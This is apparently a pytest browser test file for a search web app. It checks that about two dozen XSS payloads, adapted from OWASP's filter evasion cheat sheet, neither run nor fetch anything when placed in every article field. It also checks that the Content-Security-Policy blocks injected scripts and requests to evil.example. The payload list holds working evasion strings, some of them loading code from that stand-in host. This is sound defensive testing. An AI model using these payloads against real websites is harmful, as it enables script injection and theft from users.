"""Hostile words, in a real browser with its Content-Security-Policy, through every field."""

from collections.abc import Iterator
from dataclasses import replace
from typing import Any

import pytest
import web_server
from pages_helper import ask
from web_server import BRIDGE, FakeRetriever

from index.article import Article
from index.store.columns import Facets

pytestmark = pytest.mark.browser

# Where the links of an answer and of an article without an address lead.
OWN = "[href^='./?'], [href^='article?'], [href^='similar?']"

# Each sets window.__xss, or asks another machine for something, if a browser takes it for more
# than words. After OWASP's "XSS Filter Evasion Cheat Sheet", and what Gradio's templates read.
PAYLOADS = [
    "<script>window.__xss=1</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=window.__xss=1>",
    "<svg onload=window.__xss=1><animate onbegin=window.__xss=1 attributeName=x dur=1s>",
    "<svg><script>window.__xss=1</script></svg>",
    "<math><mtext></form><mglyph><style></math><img src onerror=window.__xss=1>",
    "<iframe srcdoc='<script>parent.__xss=1</script>'></iframe>",
    "<object data='javascript:window.__xss=1'></object><embed src='javascript:window.__xss=1'>",
    "<a href='javascript:window.__xss=1' autofocus onfocus=window.__xss=1>x</a>",
    "<details open ontoggle=window.__xss=1><summary>x</summary></details>",
    "<input autofocus onfocus=window.__xss=1><select autofocus onfocus=window.__xss=1>",
    "<video><source onerror=window.__xss=1></video><audio src onerror=window.__xss=1>",
    "<style>@import '//evil.example/x.css';</style><link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:window.__xss=1'><base href=//evil.example>",
    "<body onload=window.__xss=1 onpageshow=window.__xss=1><form action=//evil.example><button>x",
    "<template><script>window.__xss=1</script></template><noscript><img src=x onerror=alert(1)>",
    "\"' autofocus onfocus=window.__xss=1 onmouseover=window.__xss=1 x=\"'",
    '"><img src=x onerror=window.__xss=1>',
    "--><script>window.__xss=1</script><!-- ]]> </title></textarea></mark></blockquote>",
    "${window.__xss=1} {{constructor.constructor('window.__xss=1')()}} {{{value}}} @children",
    "[a](javascript:window.__xss=1) ![b](//evil.example/x.png) $\\href{javascript:1}{x}$",
    "javascript:window.__xss=1",
    "data:text/html,<script>window.__xss=1</script>",
    "\u2028window.__xss=1\u2029\u0000</script\u000b><script\u0009>window.__xss=1</script>",
    "&lt;img src=x onerror=window.__xss=1&gt; &#x3c;script&#x3e;window.__xss=1&#x3c;/script&#x3e;",
]


def shown(payload: str) -> str:
    """What of a payload is looked for: HTML drops U+0000."""
    return payload.replace("\0", "")


def hostile(payload: str) -> Article:
    """An article that says nothing but `payload`, in every field."""
    return Article(
        id=payload,
        title=f"T {payload}",
        text=f"{payload}.\n\n{payload}.",
        source=payload,
        date=payload,
        author=payload,
        language=payload,
    )


class HostileRetriever(FakeRetriever):
    """Answers with an article for each payload."""

    def ask(self, question: str, k: int = 5, *args: Any, **rest: Any) -> Any:
        answer = super().ask("ai?", k)
        place = PAYLOADS.index(question)
        own = hostile(question)
        hits = [web_server.hit(own, own.text.partition("\n")[0], score=0.9)]
        hits += [replace(hits[0], article=hostile(PAYLOADS[place - 1]), rank=2)]
        hits += [web_server.hit(BRIDGE, "Cây cầu dài 1,2 km được thông xe vào sáng thứ Bảy.", 3)]
        return replace(
            answer, question=question, understood_as=f"{question} ({question})", hits=hits
        )

    def article(self, id: str) -> Article | None:
        return hostile(id) if id in PAYLOADS else None

    def facets(self) -> Facets:
        values = tuple((payload, 1) for payload in PAYLOADS)
        return Facets((PAYLOADS[0], PAYLOADS[1]), values, values, values)

    def browse(self, words: str, n: int, *args: Any, **rest: Any) -> tuple[int, list[Article]]:
        return len(PAYLOADS), [hostile(payload) for payload in PAYLOADS[:n]]


@pytest.fixture(scope="session")
def address() -> Iterator[str]:
    from web.application import web_app

    retriever = HostileRetriever()
    with web_server.serve(web_app(lambda: retriever)) as url:
        yield url


def test_no_field_runs_a_script_or_fetches(visit: Any) -> None:
    """`visit` fails on window.__xss, on requests elsewhere, and on anything the policy blocks."""
    page = visit()
    assert page.locator(".newest a").all_inner_texts()[0] == f"T {PAYLOADS[0]}"
    ours = page.evaluate(
        "[...new Set([...document.querySelectorAll('.hb *')].map(e => e.tagName))]"
    )
    for payload in PAYLOADS:
        turn = ask(page, payload)
        assert shown(payload) in turn.locator(".question").text_content()
        turn.locator(".card a.open").first.click()
        reader = page.locator("#reader")
        reader.locator("h1").wait_for()
        assert shown(payload) in reader.locator("h1").text_content()
        bad = "script, img, svg, iframe, object, embed, form, input, select, video, audio, style"
        other = ":not(.form-choice select, #earlier .find)"  # the page's own fields
        elements = page.locator(f":is(.hb, #reader) :is({bad}, link, meta, base, template){other}")
        assert elements.count() == 0
        assert page.locator(f":is(.turn, #reader) a:not({OWN})").count() == 0
        page.keyboard.press("Escape")
    assert "SCRIPT" not in ours
    page.locator("[popovertarget=filter]").first.click()
    for author in page.locator("#filter [name=author]").all():
        author.check()
    assert page.locator(".chosen .chip").count() == len(PAYLOADS)
    page.keyboard.press("Escape")
    page.reload()  # what the browser stored comes back as harmless
    page.locator(".turn").nth(len(PAYLOADS) - 1).wait_for()
    page.locator("[popovertarget=earlier]").click()
    assert page.locator(".conversation").inner_text().strip() == PAYLOADS[0]


def test_the_policy_stops_what_would_get_through(visit: Any, troubles: list[str]) -> None:
    """Were something not escaped, the browser would still not run it."""
    page = visit()
    blocked = page.evaluate(
        """async () => {
            const found = [];
            document.addEventListener("securitypolicyviolation",
                (event) => found.push(event.violatedDirective));
            document.querySelector(".opening").innerHTML =
                "<img src=x onerror='window.__xss=1'><img src='https://evil.example/x.png'>";
            const script = document.createElement("script");
            script.textContent = "window.__xss=1";
            document.body.append(script);
            await fetch("https://evil.example/").catch(() => {});
            await new Promise((done) => setTimeout(done, 500));
            return found.sort();
        }"""
    )
    assert set(blocked) == {"script-src-attr", "script-src-elem", "img-src", "connect-src"}
    assert page.evaluate("window.__xss") is None
    assert troubles
    troubles.clear()  # the browser wrote on its console what it blocked
